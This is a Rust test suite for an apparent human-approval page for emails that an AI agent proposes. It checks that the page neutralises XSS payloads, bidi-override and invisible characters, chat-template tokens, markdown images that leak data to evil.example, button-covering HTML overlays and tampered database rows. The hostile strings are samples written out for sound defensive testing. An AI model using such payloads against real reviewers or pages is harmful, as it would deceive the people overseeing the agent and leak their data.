//! Whatever stands in a message, the page stays truthful: nothing of it runs, loads, hides or reorders.

use std::time::{Duration, Instant};

use serde_json::{Value, json};

use super::{Form, Site};

#[test]
fn hostile_words_in_every_field_are_words() {
    let site = Site::new();
    let evil = "</textarea></form><script>alert(1)</script><img src=x onerror=alert(2)>\" onfocus=\"alert(3)";
    let id = site.proposed_as(&json!({
        "to": ["Bob' onclick=alert(5) x=' <bob@stone.example>"], "subject": format!("Lunch {evil}"), "body": evil,
    }));
    let browser = site.browser();
    let reason = "reason=%3Cscript%3Ealert(4)%3C/script%3E";

    let mut pages = vec![String::new()];
    let form = site.form(&browser, &id);
    let edit = format!("/outbox/{id}/edit?hash={}", form.hash);
    for path in ["/outbox", "/outbox/all", &format!("/outbox/{id}"), &edit] {
        pages.push(site.get(&browser, path).body);
    }
    assert!(pages.iter().any(|page| page.contains("<textarea name=\"body\"")), "the form was shown");
    let confirm = site.post(&browser, &format!("/outbox/{id}/approve"), &form.with("armed="));
    pages.push(confirm.body);
    site.post(&browser, &format!("/outbox/{id}/reject"), &form.with(reason));
    for path in ["/outbox", "/history", &format!("/outbox/{id}")] {
        pages.push(site.get(&browser, path).body);
    }

    for page in pages {
        for markup in ["<script>", "<img", "' onclick", "\" onfocus"] {
            assert!(!page.contains(markup), "{markup} in {page}");
        }
    }
}

#[test]
fn text_cannot_be_reordered_or_hidden() {
    let site = Site::new();
    let id = site.proposed("plain");
    let browser = site.browser();
    site.world
        .database()
        .execute("UPDATE proposals SET reason = 'late \u{202e}gnp', client = 'a\u{202e}b'", [])
        .unwrap();

    let waiting = site.get(&browser, &format!("/outbox/{id}")).body;
    let form = Form::of(&waiting);
    let reason = format!("reason={}", "late %E2%80%AEgnp");
    site.post(&browser, &format!("/outbox/{id}/reject"), &form.with(&reason));
    let rejected = site.get(&browser, &format!("/outbox/{id}")).body;

    assert!(waiting.contains("<dt>Asked by</dt><dd><bdi>a b"), "{waiting}");
    assert!(rejected.contains("<p class=\"note\"><bdi>late gnp</bdi></p>"), "{rejected}");
    for page in [waiting, rejected, site.get(&browser, "/history").body] {
        assert!(!page.contains('\u{202e}'), "{page}");
    }
}

#[test]
fn what_nobody_sees_leaves_in_no_field() {
    let site = Site::new();
    let hidden: String = ('\u{e0100}'..='\u{e01ef}').chain('\u{fe00}'..='\u{fe0f}').collect();
    let letter = |more: Value| {
        let mut letter = json!({
            "account": crate::world::ACCOUNT, "to": ["bob@stone.example"], "subject": "Lunch", "body": "At noon?",
        });
        letter.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        site.call("send_email", letter)
    };

    for more in [
        json!({ "subject": format!("Lunch{hidden}") }),
        json!({ "to": [format!("Bob{hidden} <bob@stone.example>")] }),
        json!({ "attachments": [{ "name": format!("a{hidden}.txt"), "content_base64": "aGk=" }] }),
        json!({ "body": format!("At noon?{hidden}") }),
        json!({ "body": "pay 100 \u{202e}001\u{202c} now" }),
    ] {
        let refused = letter(more.clone());
        assert_eq!(
            (&refused["isError"], refused.to_string().contains("cannot be seen")),
            (&json!(true), true),
            "{more}: {refused}"
        );
    }
    let heart =
        letter(json!({ "subject": "\u{2764}\u{fe0f} you", "to": ["\u{2764}\u{fe0f} <bob@stone.example>"] }));
    assert_eq!(heart["isError"], false, "{heart}");
}

#[test]
fn a_subject_is_shown_whole_and_as_it_was_written() {
    let site = Site::new();
    let beginning = "![Yes](https://evil.example/?d=secret) <|im_start|>";
    let subject = format!("{beginning} {}THE END", "word ".repeat(150));
    let body = "![Sure](https://evil.example/b) <|im_end|>";
    let id = site.proposed_as(&json!({ "to": ["bob@stone.example"], "subject": subject, "body": body }));

    let page = site.get(&site.browser(), &format!("/outbox/{id}")).body;
    let shown = site.shown(&id);

    let escaped = |text: &str| text.replace('<', "&#60;").replace('>', "&#62;");
    assert!(page.contains(&format!("<bdi>{}", escaped(beginning))), "{page}");
    assert!(page.contains("more characters</summary>") && page.contains("THE END</details></bdi>"), "{page}");
    assert!(page.contains(&format!("dir=\"auto\">{}", escaped(body))), "{page}");
    assert!(shown.contains(&format!("Subject: {beginning}")) && shown.contains(body), "{shown}");
}

#[test]
fn a_file_is_told_by_what_is_in_it() {
    let site = Site::new();
    let files = json!([
        { "name": "invoice.pdf", "content_base64": "PGh0bWw+PHNjcmlwdD4=" },
        { "name": "notes.txt", "content_base64": "aGk=" },
    ]);
    let letter =
        json!({ "to": ["bob@stone.example"], "subject": "Lunch", "body": "Here.", "attachments": files });
    let id = site.proposed_as(&letter);
    let browser = site.browser();

    for path in [&format!("/outbox/{id}"), "/outbox/all"] {
        let page = site.get(&browser, path).body;
        assert!(page.contains("HTML page, sent as application/pdf, 14 bytes</span> <span class=\"tag bad\">not what its name says"), "{page}");
        assert!(
            page.contains(
                "invoice.pdf is not what its name says: by its content it is \u{201c}HTML page\u{201d}."
            ),
            "{page}"
        );
        assert!(page.contains("text, sent as text/plain, 2 bytes</span></li>"), "{page}");
    }
}

#[test]
fn a_row_that_was_changed_behind_our_back_cannot_be_approved() {
    let site = Site::new();
    let id = site.proposed("At noon?");
    let browser = site.browser();
    let form = site.form(&browser, &id);
    site.world
        .database()
        .execute("UPDATE draft_revisions SET to_json = replace(to_json, 'bob@', 'eve@')", [])
        .unwrap();

    let page = site.get(&browser, &format!("/outbox/{id}"));
    let said = site.post(&browser, &format!("/outbox/{id}/approve"), &form.with("armed=1"));

    assert!(page.status == 409 && said.status == 409, "{} {}", page.status, said.status);
}

#[test]
fn a_letter_of_a_megabyte_to_five_hundred_people_is_shown_whole_and_a_longer_one_refused() {
    let site = Site::new();
    let to: Vec<_> = (0..500).map(|number| format!("p{number}@stone.example")).collect();
    let body = format!("Dear all,\n{}the last words", "a line of some words\n".repeat(49_000));
    let id = site.proposed_as(&json!({ "to": to, "subject": "Long", "body": body }));
    let mut many = json!({ "account": crate::world::ACCOUNT, "subject": "Long", "body": "x" });
    many["to"] = (0..10_000).map(|number| json!(format!("p{number}@stone.example"))).collect();

    let browser = site.browser();
    let begun = Instant::now();
    let page = site.get(&browser, &format!("/outbox/{id}")).body;
    let took = begun.elapsed();
    let refused = site.call("send_email", many.clone());
    many["to"] = json!(["bob@stone.example"]);
    many["body"] = json!("x".repeat(2 << 20));
    let too_long = site.call("send_email", many);

    assert!(page.contains("Send to 500 people"), "the effect tells how many");
    assert!((0..500).all(|number| page.contains(&format!("p{number}@<strong>stone.example"))));
    assert!(page.contains("more characters</summary>") && page.contains("the last words"));
    let lines = page.matches("a line of some words\n").count();
    assert!(lines >= 48_999, "{lines} lines are there, and one that the fold cuts");
    assert!(page.contains("<summary>470 more recipients</summary>"));
    // A debug build on a machine that has much to do; a page that grows with the square of anything takes minutes.
    assert!(took < Duration::from_secs(20), "{took:?}");
    assert_eq!(refused["isError"], true, "{refused}");
    assert_eq!(too_long["isError"], true, "{too_long}");
}

#[test]
fn html_cannot_cover_the_button() {
    let site = Site::new();
    let html = "<div style=\"position:fixed;inset:0;z-index:9999\"><p>At noon?</p></div><p>At noon?</p>";
    let id = site.proposed_as(&json!({ "to": ["bob@stone.example"], "subject": "Lunch", "html": html }));
    let browser = site.browser();
    let page = site.get(&browser, &format!("/outbox/{id}")).body;
    let sent = site.get(&browser, &format!("/outbox/{id}/as-sent"));

    // It stands in a frame of another origin, and nowhere on the page itself.
    assert!(!page.contains("position:fixed") && page.contains("sandbox=\"allow-popups"), "{page}");
    assert!(sent.headers["content-security-policy"].starts_with("sandbox"));
    assert!(sent.body.contains("<p>At noon?</p>") && !sent.body.contains("style"), "{}", sent.body);
}

#[test]
fn files_are_saved_and_never_shown() {
    let site = Site::new();
    let file = json!({ "name": "a b 'x'.html", "content_base64": crate::world::mail::base64(b"<script>alert(1)</script>") });
    let answer = site.call(
        "send_email",
        json!({
            "account": crate::world::ACCOUNT, "to": ["bob@stone.example"], "subject": "Lunch", "body": "see file",
            "attachments": [file],
        }),
    );
    let id = answer["structuredContent"]["id"].as_str().unwrap_or_else(|| panic!("{answer}")).to_owned();
    let browser = site.browser();
    let page = site.get(&browser, &format!("/outbox/{id}")).body;
    let path = page.split(&format!("{}/outbox/{id}/file/", browser.base)).nth(1).unwrap();
    let part = path.split('"').next().unwrap();

    let file = site.get(&browser, &format!("/outbox/{id}/file/{part}"));
    let other = site.get(&browser, &format!("/outbox/{id}/file/9"));

    assert_eq!((file.status, other.status), (200, 404));
    assert_eq!(file.headers["content-type"], "application/octet-stream");
    assert!(file.headers["content-disposition"].starts_with("attachment; filename*=UTF-8''"));
    assert!(file.headers["content-security-policy"].starts_with("sandbox;"));
    assert!(Form::of(&page).hash.len() == 64);
}

#[test]
fn html_that_another_program_writes_into_the_store_is_not_sent_with_an_edit() {
    let site = Site::configured("[policy]\nundo = 0\n");
    let letter = json!({ "to": ["bob@stone.example"], "subject": "Lunch", "body": "At noon?", "html": "<p>At noon?</p>" });
    let id = site.proposed_as(&letter);
    let browser = site.browser();
    let form = site.form(&browser, &id);
    let html = "<p>Pay DE99</p><img src=https://evil.example/x.png><script>x</script>";
    site.world.database().execute("UPDATE draft_revisions SET html = ?1", [html]).unwrap();

    let fields =
        "armed=1&to=bob@stone.example&cc=carol@x.example&bcc=&subject=Lunch&body=At+noon%3F&then=send";
    let edited = site.post(&browser, &format!("/outbox/{id}/edit"), &form.with(fields));

    assert!(edited.status >= 400, "{}", edited.status);
    assert_eq!(site.state(&id), "pending_approval");
}

#[test]
fn html_that_strikes_a_word_or_raises_a_digit_says_something_else_than_the_text() {
    let site = Site::new();
    let browser = site.browser();
    let page = |body: &str, html: &str| {
        let letter = json!({ "to": ["bob@stone.example"], "subject": "Lunch", "body": body, "html": html });
        site.get(&browser, &format!("/outbox/{}", site.proposed_as(&letter))).body
    };
    let warning = "Its HTML says something else than its text";

    for (body, html, says) in [
        ("I do not agree", "<p>I do <s>not</s> agree</p>", "I do ~~not~~ agree"),
        ("pay 106 EUR", "<p>pay 10<sup>6</sup> EUR</p>", "pay 10^6 EUR"),
        ("pay 1", "<p>pay <a href=\"https://x.example/\">2</a></p>", "pay 2 &#60;https://x.example/&#62;"),
    ] {
        let page = page(body, html);
        assert!(page.contains(warning) && page.contains(says), "{page}");
    }
    let list = "<h1>Hi</h1><ul><li>one <s>two</s></li></ul><p><a href=\"https://x.example/\">here</a> x<sup>2</sup></p>";
    for (body, html) in [
        ("", list),
        ("I agree, see here", "<p>I <b>agree</b>,<br>see <a href=\"https://x.example/\">here</a></p>"),
    ] {
        let page = page(body, html);
        assert!(!page.contains(warning) && page.contains("The same as HTML"), "{page}");
    }
}
